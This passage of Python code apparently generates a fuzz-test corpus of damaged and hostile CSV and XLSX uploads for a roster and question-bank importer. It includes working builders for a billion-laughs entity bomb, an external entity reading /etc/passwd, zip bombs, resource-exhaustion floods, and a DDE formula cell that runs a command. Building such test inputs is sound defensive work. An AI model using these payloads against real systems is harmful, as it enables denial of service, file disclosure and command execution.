    yield Mutant("XLSX named .csv", "ds.csv", roster_xlsx())
    yield Mutant("XLSX named .xls", "ds.xls", roster_xlsx())


def xlsx_rows(rnd: random.Random) -> Iterator[Mutant]:
    """Row and cell numbers at and past Excel's limits, and sizes that lie."""
    head = roster_sheet(good_row(1)).split(b"</sheetData>")[0]
    tail = b"</sheetData></worksheet>"

    def sheet(*rows: str, dimension: str = "") -> bytes:
        body = head + "".join(rows).encode() + tail
        if dimension:
            body = body.replace(
                b"<sheetData>", f'<dimension ref="{dimension}"/><sheetData>'.encode()
            )
        return body

    name = '<c r="{col}{row}" t="inlineStr"><is><t>Lò Văn Páo</t></is></c>'
    variants = {
        "row 1,048,576 under a lying size": sheet(
            f'<row r="1048576">{name.format(col="B", row=1048576)}</row>',
            dimension="A1:XFD1048576",
        ),
        "row 1,048,577": sheet(
            f'<row r="1048577">{name.format(col="B", row=1048577)}</row>'
        ),
        "row 2,000,000,000": sheet(
            f'<row r="2000000000">{name.format(col="B", row=2000000000)}</row>'
        ),
        "row 0": sheet(f'<row r="0">{name.format(col="B", row=0)}</row>'),
        "row -1": sheet(f'<row r="-1">{name.format(col="B", row=1)}</row>'),
        "row 2.5": sheet(f'<row r="2.5">{name.format(col="B", row=3)}</row>'),
        "row 3e0": sheet(f'<row r="3e0">{name.format(col="B", row=3)}</row>'),
        "row abc": sheet(f'<row r="abc">{name.format(col="B", row=3)}</row>'),
        "rows going backwards": sheet(
            f'<row r="9">{name.format(col="B", row=9)}</row>'
            f'<row r="3">{name.format(col="B", row=3)}</row>'
        ),
        "the same row three times": sheet(
            *[f'<row r="3">{name.format(col="B", row=3)}</row>'] * 3
        ),
        "cell in column XFD": sheet(
            f'<row r="3">{name.format(col="B", row=3)}<c r="XFD3"><v>1</v></c></row>'
        ),
        "cell in column XFE": sheet(
            f'<row r="3">{name.format(col="B", row=3)}<c r="XFE3"><v>1</v></c></row>'
        ),
        "cell in column ZZZZ": sheet(
            f'<row r="3">{name.format(col="B", row=3)}<c r="ZZZZ3"><v>1</v></c></row>'
        ),
        "cell reference $B$3": sheet(
            f'<row r="3">{name.format(col="$B$", row=3)}</row>'
        ),
        "cell reference 3B": sheet('<row r="3"><c r="3B"><v>1</v></c></row>'),
        "cells without references": sheet(
            '<row><c><v>1</v></c><c t="inlineStr"><is><t>Lò Văn Páo</t></is></c></row>'
        ),
        "rows without numbers": sheet(
            *['<row><c r="B1" t="inlineStr"><is><t>Lò Văn Páo</t></is></c></row>'] * 3
        ),
        "size claims one cell": sheet(
            f'<row r="3">{name.format(col="B", row=3)}</row>', dimension="A1:A1"
        ),
        "size is nonsense": sheet(
            f'<row r="3">{name.format(col="B", row=3)}</row>', dimension="ZZ:1"
        ),
    }
    for kind, xml in variants.items():
        yield Mutant(kind, "ds.xlsx", package([xml]))


def small_bombs(rnd: random.Random) -> Iterator[Mutant]:
    """Cheap members of the worst families, so the corpus keeps them in sight."""
    yield Mutant(
        "small entity bomb in shared strings",
        "ds.xlsx",
        package(
            [roster_sheet(good_row(1))], shared_strings=billion_laughs("sst", depth=3)
        ),
    )
    yield Mutant(
        "external entity in the sheet", "ds.xlsx", package([external_entity_sheet()])
    )
    yield Mutant("1,001 zip entries", "ds.xlsx", many_entries(1_001))
    yield Mutant(
        "tag without an end for 2 MB",
        "ds.xlsx",
        package(
            [head_only_sheet(b'<row r="2"><c r="A2" ' + b" " * (2 << 20), close=False)]
        ),
    )


ROSTER_CORPUS = (
    csv_byte_damage,
    csv_encodings,
    csv_shapes,
    csv_cells,
    csv_garbage,
    xlsx_byte_damage,
    xlsx_zip_damage,
    xlsx_xml_damage,
    xlsx_cells,
    xlsx_layouts,
    xlsx_rows,
    small_bombs,
)


# --- the corpus: question files -------------------------------------------------------


def question_damage(rnd: random.Random) -> Iterator[Mutant]:
    base = question_xlsx()
    for name, damage in BYTE_DAMAGE.items():
        for _ in range(12 if name == "flipped" else 6):
            yield Mutant(f"xlsx {name}", "cau-hoi.xlsx", damage(base, rnd))
        for _ in range(8):
            yield Mutant(
                f"sheet XML {name}",
                "cau-hoi.xlsx",
                first_sheet_changed(base, lambda xml, damage=damage: damage(xml, rnd)),
            )
    template = question_template_xlsx()
    for _ in range(10):
        damage = rnd.choice(list(BYTE_DAMAGE.values()))
        yield Mutant("template damaged", "mau.xlsx", damage(template, rnd))


def question_cells(rnd: random.Random) -> Iterator[Mutant]:
    column = {name: index for index, name in enumerate(QUESTION_HEADERS)}

    def changed(**cells: object) -> list[list[object]]:
        row = list(QUESTION_ROWS[0])
        for name, value in cells.items():
            row[column[name]] = value
        return [row, *QUESTION_ROWS[1:]]

    formulas = ['=HYPERLINK("http://example.com","Bấm")', "=1+1", "=cmd|' /C calc'!A0"]
    for formula in formulas:
        for name in ("Câu hỏi", "Lựa chọn A", "Đáp án đúng", "Điểm"):
            cell = "ABCDEFGHIJKLM"[column[name]] + "2"
            yield Mutant(
                f"formula in {name}",
                "cau-hoi.xlsx",
                question_xlsx(formulas={cell: formula}),
                formula,
            )
    odd = {
        "Điểm": [
            1e999,
            -1.0,
            0,
            1000,
            0.001,
            "1,2,3",
            "NaN",
            "1e999999999",
            True,
            "\uff11",
        ],
        "Loại": ["", "Nhiều", 1, "single choice", "Đúng - Sai"],
        "Đáp án đúng": ["", "Z", "A, A, A", "AB CD", 1, True, "A" * 10_000],
        "Câu hỏi": ["", "x" * 32_000, "Dòng 1\nDòng 2", 42, "=1+1"],
        "Nhóm câu hỏi": ["", "N" * 151, "ß" * 150, "sổ a0"],
        "Lựa chọn A": ["", "L" * 501, 0, None],
        "Tính điểm từng phần": ["Có", "có lẽ", 2],
    }
    for name, values in odd.items():
        for value in values:
            yield Mutant(
                f"{name} = {str(value)[:20]!r}",
                "cau-hoi.xlsx",
                question_xlsx(changed(**{name: value})),
                str(value),
            )
    raw = {
        "points 1e999": Raw('<c r="{ref}"><v>1e999</v></c>'),
        "shared string out of range": Raw('<c r="{ref}" t="s"><v>7</v></c>'),
        "ISO date garbage": Raw('<c r="{ref}" t="d"><v>hôm qua</v></c>'),
        "number NaN": Raw('<c r="{ref}"><v>NaN</v></c>'),
    }
    for kind, cell in raw.items():
        rows = [
            QUESTION_HEADERS,
            [*QUESTION_ROWS[0][:10], cell, *QUESTION_ROWS[0][11:]],
        ]
        yield Mutant(
            f"cell: {kind}",
            "cau-hoi.xlsx",
            package([sheet_xml(rows)], shared_strings=shared_strings_xml(["x"])),
        )


def question_files(rnd: random.Random) -> Iterator[Mutant]:
    yield Mutant("CSV", "cau-hoi.csv", csv_of(QUESTION_ROWS, QUESTION_HEADERS).encode())
    yield Mutant(
        "CSV named .xlsx",
        "cau-hoi.xlsx",
        csv_of(QUESTION_ROWS, QUESTION_HEADERS).encode(),
    )
    yield Mutant("empty file", "cau-hoi.xlsx", b"")
    yield Mutant("old .xls", "cau-hoi.xls", b"\xd0\xcf\x11\xe0" + rnd.randbytes(512))
    yield Mutant("random bytes", "cau-hoi.xlsx", rnd.randbytes(4096))
    yield Mutant("a roster instead", "cau-hoi.xlsx", roster_xlsx())
    yield Mutant("header only", "cau-hoi.xlsx", question_xlsx([]))
    yield Mutant(
        "rows above the header",
        "cau-hoi.xlsx",
        workbook_bytes([QUESTION_HEADERS, *QUESTION_ROWS], ["NGÂN HÀNG CÂU HỎI"]),
    )
    yield Mutant(
        "header below row 10",
        "cau-hoi.xlsx",
        workbook_bytes(
            [["x"]] * 10 + [QUESTION_HEADERS, *QUESTION_ROWS], ["NGÂN HÀNG CÂU HỎI"]
        ),
    )
    yield Mutant(
        "missing required column",
        "cau-hoi.xlsx",
        workbook_bytes([row[1:] for row in QUESTION_ROWS], QUESTION_HEADERS[1:]),
    )
    yield Mutant(
        "ragged rows",
        "cau-hoi.xlsx",
        question_xlsx([row[: rnd.randint(0, len(row))] for row in QUESTION_ROWS]),
    )
    yield Mutant(
        "merged cells",
        "cau-hoi.xlsx",
        question_xlsx(after=lambda workbook: workbook.active.merge_cells("C2:E3")),
    )
    yield Mutant(
        "questions on the second sheet",
        "cau-hoi.xlsx",
        question_xlsx(before=lambda workbook: workbook.active.append(["Hướng dẫn"])),
    )
    yield Mutant(
        "2,001 questions",
        "cau-hoi.xlsx",
        question_xlsx(
            [
                [*QUESTION_ROWS[0][:2], f"Câu {n}?", *QUESTION_ROWS[0][3:]]
                for n in range(2_001)
            ]
        ),
    )
    for kind, xml in {
        "row 2,000,000,000": head_only_sheet(
            b'<row r="2000000000"><c r="A2000000000"><v>1</v></c></row>'
        ),
        "cell in column XFE": head_only_sheet(
            b'<row r="2"><c r="XFE2"><v>1</v></c></row>'
        ),
    }.items():
        yield Mutant(kind, "cau-hoi.xlsx", package([xml]))
    yield Mutant(
        "small entity bomb",
        "cau-hoi.xlsx",
        package([head_only_sheet()], shared_strings=billion_laughs("sst", depth=3)),
    )
    yield Mutant("1,001 zip entries", "cau-hoi.xlsx", many_entries(1_001))


QUESTION_CORPUS = (question_damage, question_cells, question_files)


def corpus(generators, seed: int) -> list[Mutant]:
    """Every mutant of `generators`, the same ones for the same seed."""
    rnd = random.Random(seed)
    return [mutant for generator in generators for mutant in generator(rnd)]


# --- the worst files ------------------------------------------------------------------


def head_only_sheet(body: bytes = b"", *, close: bool = True) -> bytes:
    """Worksheet XML: the question headers in row 1, then `body`, closed or not."""
    header = "".join(
        cell_xml(f"{column_letters(n)}1", text)
        for n, text in enumerate(QUESTION_HEADERS, start=1)
    )
    start = f'{XML_DECLARATION}<worksheet xmlns="{SHEET_NS}"><sheetData><row r="1">'
    xml = start.encode() + header.encode() + b"</row>" + body
    return xml + b"</sheetData></worksheet>" if close else xml


def zip_bomb_claimed(size: int = 2 << 30) -> bytes:
    """A worksheet whose stream inflates to `size` bytes of rows, said honestly."""
    return _bomb_package(_rows_stream(size), size)


def zip_bomb_lying(claimed: int, inflates_to: int = 2 << 30) -> bytes:
    """A worksheet stream inflating to gigabytes while the directory claims little."""
    return _bomb_package(_rows_stream(inflates_to), claimed)


def _rows_stream(size: int) -> bytes:
    sheet = head_only_sheet()
    head, tail = sheet.split(b"</sheetData>")
    chunk = b"<row/>" * (1 << 18)
    return deflated_repeats(
        chunk, size // len(chunk), head=head, tail=b"</sheetData>" + tail
    )


def _bomb_package(stream: bytes, claimed: int) -> bytes:
    valid = zipfile.ZipFile(io.BytesIO(package([head_only_sheet()])))
    members = [
        (
            info.filename,
            zlib.compress(valid.read(info), 9)[2:-4],
            8,
            info.CRC,
            info.file_size,
        )
        for info in valid.infolist()
        if info.filename != "xl/worksheets/sheet1.xml"
    ]
    members.append(("xl/worksheets/sheet1.xml", stream, 8, 0, claimed))
    return raw_zip(members)


def tag_flood(tag: bytes = b"<row/>", megabytes: int = 49) -> bytes:
    """An honest package under the 50 MB limit, its sheet one tag over and over."""
    count = (megabytes << 20) // len(tag)
    return package([head_only_sheet(tag * count)])


def many_entries(count: int = 35_000) -> bytes:
    """A workbook plus `count` tiny parts: about as many as 5 MB of zip can list."""
    valid = zipfile.ZipFile(io.BytesIO(package([head_only_sheet()])))
    members = [
        (info.filename, valid.read(info), 0, info.CRC, info.file_size)
        for info in valid.infolist()
    ]
    crc = zlib.crc32(b"<a/>")
    members += [(f"customXml/i{n}.xml", b"<a/>", 0, crc, 4) for n in range(count)]
    return raw_zip(members)


def billion_laughs(root: str = "sst", depth: int = 9) -> bytes:
    """The classic entity bomb: 10 ** depth copies of "lol" from a few hundred bytes."""
    entities = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{n} "{f"&lol{n - 1};" * 10}">' for n in range(1, depth + 1)
    ]
    doctype = f"<!DOCTYPE {root} [{''.join(entities)}]>"
    if root == "sst":
        body = f'<sst xmlns="{SHEET_NS}"><si><t>&lol{depth};</t></si></sst>'
    else:
        body = (
            f'<worksheet xmlns="{SHEET_NS}"><sheetData><row r="1">'
            f'<c r="A1" t="inlineStr"><is><t>&lol{depth};</t></is></c>'
            "</row></sheetData></worksheet>"
        )
    return (XML_DECLARATION + doctype + body).encode()


def quadratic_blowup() -> bytes:
    """One 50 KB entity referenced 20,000 times: a gigabyte, with no nesting."""
    entity = "a" * 50_000
    body = "&a;" * 20_000
    return (
        f'{XML_DECLARATION}<!DOCTYPE worksheet [<!ENTITY a "{entity}">]>'
        f'<worksheet xmlns="{SHEET_NS}"><sheetData><row r="1"><c r="A1" '
        f't="inlineStr"><is><t>{body}</t></is></c></row></sheetData></worksheet>'
    ).encode()


def external_entity_sheet() -> bytes:
    return (
        f'{XML_DECLARATION}<!DOCTYPE worksheet [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
        f'<worksheet xmlns="{SHEET_NS}"><sheetData><row r="1"><c r="A1" '
        't="inlineStr"><is><t>&e;</t></is></c></row></sheetData></worksheet>'
    ).encode()


def million_row_csv(row: str = "1,A") -> bytes:
    return ("STT,Họ và tên\r\n" + f"{row}\r\n" * 1_000_000).encode()


def million_full_rows_csv() -> bytes:
    line = csv_of([good_row(1)]).split("\r\n")[1].encode() + b"\r\n"
    return csv_of([]).encode() + line * 1_000_000


def largest_random_csv(seed: int) -> bytes:
    return random.Random(seed).randbytes(5 * 1024 * 1024)


def largest_damaged_xlsx(seed: int) -> bytes:
    """Just under 5 MB: a valid package whose sheet is stored random bytes."""
    noise = random.Random(seed).randbytes(5 * 1024 * 1024 - 4096)
    buffer = io.BytesIO(package([roster_sheet(good_row(1))]))
    return rezipped_stored(buffer.getvalue(), "xl/worksheets/sheet1.xml", noise)


def rezipped_stored(data: bytes, part: str, content: bytes) -> bytes:
    source = zipfile.ZipFile(io.BytesIO(data))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as archive:
        for info in source.infolist():
            archive.writestr(
                info.filename, content if info.filename == part else source.read(info)
            )
    return buffer.getvalue()


def styles_flood(count: int = 300_000) -> bytes:
    """A 15 KB styles part: openpyxl keeps some 700 bytes of objects per style."""
    cell_formats = f'<cellXfs count="{count}">' + '<xf numFmtId="0"/>' * count
    styles = re.sub(r"<cellXfs .*</cellXfs>", cell_formats + "</cellXfs>", STYLES)
    return package([roster_sheet(good_row(1))], styles=styles)


def strings_flood(count: int = 300_000) -> bytes:
    """Shared strings, some 60 µs each to read, all read as the workbook opens."""
    return package(
        [roster_sheet(good_row(1))], shared_strings=shared_strings_xml(["a"] * count)
    )


def rows_flood(count: int = 300_000) -> bytes:
    """Empty rows, each parsed twice by openpyxl (for the size, then the cells)."""
    sheet = roster_sheet(good_row(1))
    return package(
        [sheet.replace(b"</sheetData>", b"<row/>" * count + b"</sheetData>")]
    )


def xfd_on_every_row(rows: int = 10_000) -> bytes:
    """Each row one cell, in column XFD: openpyxl would pad 16,384 cells a row."""
    body = b"".join(
        b'<row r="%d"><c r="XFD%d"><v>1</v></c></row>' % (n, n)
        for n in range(2, rows + 2)
    )
    return package([head_only_sheet(body)])
